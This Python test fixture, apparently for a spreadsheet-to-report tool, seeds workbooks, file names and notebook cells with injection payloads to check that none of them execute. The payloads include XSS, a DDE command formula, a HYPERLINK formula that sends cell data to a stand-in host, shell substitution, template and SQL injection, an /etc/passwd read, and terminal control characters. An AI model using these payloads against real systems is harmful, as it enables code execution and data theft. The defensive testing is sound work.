"""A small office whose every text means something to some program: names, titles, cells, file and sheet names."""

from __future__ import annotations

import json
from datetime import date
from pathlib import Path
from typing import Any

from openpyxl import load_workbook

from worlds import LEDGERS, UNITS, World, make_world

# `jb-mark` is the element, and `hacked` the variable, that must not be there when a page is open.
MARKUP = "<script>window.hacked=1</script><jb-mark>x</jb-mark><img src=x onerror=window.hacked=2>"
PAYLOADS = (
    MARKUP,
    "\"><img src=x onerror='window.hacked=3'><jb-mark>",
    "</textarea></style></title><svg onload=window.hacked=4><jb-mark>",
    "<!-- --><jb-mark>&lt;jb-mark&gt;",
    "=HYPERLINK(\"http://x.test/?\"&A1,\"点这里\")",
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "＝1+1",
    "\t=1+1",
    "#N/A",
    "#eval(\"1+1\") #let x = 1 #image(\"/etc/passwd\")",
    "*粗* _斜_ $x^2$ @ref <label> `raw` = 标题",
    "\\u{1F600} \\\\ \\#",
    "`whoami` $(whoami) ${HOME} %PATH%",
    "{{7*7}} {%tr%} {7*7} {brief} {单位}",
    "$\\frac{1$ 单价$\\frac{1$",
    "[点](javascript:window.hacked=5) ![图](http://x.test/a.png)",
    "# 标题\n- 项 | 表 | 头",
    "%%bash\nexit 1",
    "!exit 1",
    "'; drop table deliveries; --",
    "\x1b[31m红\x1b[0m \x1b]0;title\x07 \x9b31m",
    "左\u202e右\u202c 零\u200b宽 \u2066隔\u2069",
    "响\x07铃 空\x00字 退\x08格",
    "长" * 900,
    "a" * 900,
    "]]> <![CDATA[ &amp; &#x3c;",
    "家👨‍👩‍👧 𠮷 é \u0301",
)
CONTROL = "\x1b\x9b\u202e\u2066\u200b"      # must reach no terminal and no page
NAMES = {"B01": "住房局<jb-mark>=1+1", "C01": "=东湖县{{7*7}}", "C02": "西岭县$\\frac{1$"}
HOSTILE_UNITS = [UNITS[0], UNITS[1], *((code, f"{name}（全称）", name, "root", "县", "市直", None, True) for code, name in NAMES.items())]

INDICATORS: dict[str, Any] = {
    "problems": {"code": "C1", "title": {"zh": "问题数"}, "unit": "个", "nature": "result", "ledger": "problems", "value": "count()",
                 "rolls_up": "stock", "better": "lower", "definition": "在册问题数。"},
    "days": {"code": "B3", "title": {"zh": "读书班天数"}, "unit": "天", "nature": "result", "better": "higher", "ledger": "study",
             "value": "sum(days)", "rolls_up": "sum", "definition": "读书班天数之和。"}}
TEXTS = {"code": "L18", "title": "来稿", "kind": "state", "filed_by": ["市直"], "key": ["no"], "columns": {
    "no": {"title": "编号", "required": True}, "title": {"title": "标题"}, "text": {"title": "正文"},
    "sent_on": {"title": "日期", "type": "date"}, "chosen": {"title": "采用"}, "printed_in": {"title": "刊于"}}}
PROBLEMS = {**LEDGERS["problems"], "columns": {**LEDGERS["problems"]["columns"], "kind": {"title": "类别"}}}
STUDY = {**LEDGERS["study"], "columns": {**LEDGERS["study"]["columns"], "topic": {"title": "主题"}}}
BRIEFS = {"weekly": {"notebook": "weekly.ipynb", "name": "工作简报", "title": "{单位}情况", "period": "week",
                     "formats": ["html", "pdf", "docx", "xlsx"]}}
CELLS = [
    ('period: str = "2023-W42"\nunit: str = "root"\nas_of: str = ""', ["parameters"]),
    ('import jianbao as jb\nfrom jianbao.numbers import compare\n\n'
     'brief = jb.open_brief(period, unit, as_of, product="weekly")\nbrief', []),
    ("%%say\n{全域}问题{问题数}，会场{会场}〔；{问题数.前三}居前〕。", []),
    ('brief.table(brief.readings("问题数", "读书班天数", of="peers").with_(compare.rank), title="各单位", by="rank", total=True)', []),
    ('brief.ranking("读书班天数")\nbrief.heatmap("问题数", "读书班天数")\nbrief.multiples("问题数")', []),
    ('brief.ageing("问题数", state="kind")', []),
    ("brief.voices(limit=99)", []),
    ('rows = brief["问题数"].rows()\nrows', []),
    ('print("\\n\\n".join(s for s in rows["summary"] if "👨" not in s))', []),
    ('brief.findings()\nbrief.sources()', []),
]


def hostile_world(tmp_path: Path) -> World:
    """Filed and not yet received."""
    world = make_world(
        tmp_path, units=HOSTILE_UNITS, indicators={"all": INDICATORS},
        ledgers={**LEDGERS, "problems": PROBLEMS, "study": STUDY, "contributions": TEXTS},
        campaign={"peers": ["市直"], "thresholds": {"same_coverage": 0.1, "rank_coverage": 0.1},
                  "facts": {"会场": {"ledger": "study", "value": "topic", "take": "last"}}},
        params={"briefs.yml": BRIEFS, "calendar.yml": {"cut_off": {"days": 1, "at": "12:00"}, "work_days": "all"}},
        master={"联络组": [{"小组编码": "=G1", "小组名称": f"一组{MARKUP}", "对接单位编码": c, "起始日期": date(2020, 1, 1)}
                          for c in NAMES]})
    _fill(world.root / "data/master/master.xlsx", {})
    cells = [{"cell_type": "code", "id": f"c{n}", "metadata": {"tags": tags}, "source": source, "outputs": [], "execution_count": None}
             for n, (source, tags) in enumerate(CELLS)]
    book = {"cells": cells, "metadata": {"kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}},
            "nbformat": 4, "nbformat_minor": 5}
    (world.root / "notebooks").mkdir()
    (world.root / "notebooks" / "weekly.ipynb").write_text(json.dumps(book, ensure_ascii=False), encoding="utf-8")
    day = date(2023, 10, 17)
    problems = [{"问题编号": f"={n}", "问题摘要": "P", "登记日期": day, "状态": "整改中", "类别": "K"} for n in range(len(PAYLOADS))]
    texts = [{"编号": f"@{n}", "标题": "T", "正文": "X", "日期": day, "采用": "采用"} for n in range(len(PAYLOADS))]
    study = [{"学习类型": "读书班", "开始日期": day, "天数": 2, "主题": "T"}]
    good = world.file("B01", "2023-W42", {"集中学习台账": study, "问题台账": problems, "来稿": texts},
                      name="=好<jb-mark>'\"{{7*7}}$(x).xlsx")
    _fill(good, {"问题台账": {"问题摘要": PAYLOADS, "类别": PAYLOADS}, "来稿": {"标题": PAYLOADS, "正文": PAYLOADS},
                 "集中学习台账": {"主题": (PAYLOADS[0],)}})
    _fill(world.file("C01", "2023-W42", {"集中学习台账": [{**study[0], "天数": 3}], "问题台账": [problems[0]]},
                     name="\x1b[31m红\u202e.xlsx"), {})
    # Every kind of finding that quotes what was typed: wrong types, codes, units, titles, sheet names.
    bad = [{"学习类型": "P", "开始日期": "P", "天数": "P", "结束日期": "P", "参加人数": "P", "=多出的<jb-mark>": "x"} for _ in PAYLOADS]
    wrong = world.file("C02", "2023-W42", {"集中学习台账": bad}, name="-错`x`.xlsx")
    _fill(wrong, {"集中学习台账": dict.fromkeys(("学习类型", "开始日期", "天数", "结束日期", "参加人数"), PAYLOADS)})
    _fill(world.file("=不是单位<jb-mark>\u202e", "2023-W42", {"集中学习台账": study}, name="+谁.xlsx"), {})
    return world


def _fill(path: Path, texts: dict[str, dict[str, tuple[str, ...]]]) -> None:
    """Each payload into its row, as text; openpyxl cannot write what XML cannot hold, so those are escaped as Excel does."""
    book = load_workbook(path)
    if "inbox" in path.parts:
        book.create_sheet("=别的<jb-mark>")["A1"] = "x"
    for cell in (c for ws in book for row in ws.iter_rows() for c in row if c.data_type == "f"):
        cell.data_type = "s"
    for sheet, columns in texts.items():
        ws = book[sheet]
        header = {str(c.value): c.column for c in ws[6]}
        for title, payloads in columns.items():
            for n, text in enumerate(payloads):
                cell = ws.cell(7 + n, header[title])
                cell.value = "".join(f"_x{ord(c):04X}_" if ord(c) < 32 and c not in "\t\n\r" else c for c in text)
                cell.data_type = "s"
    book.save(path)
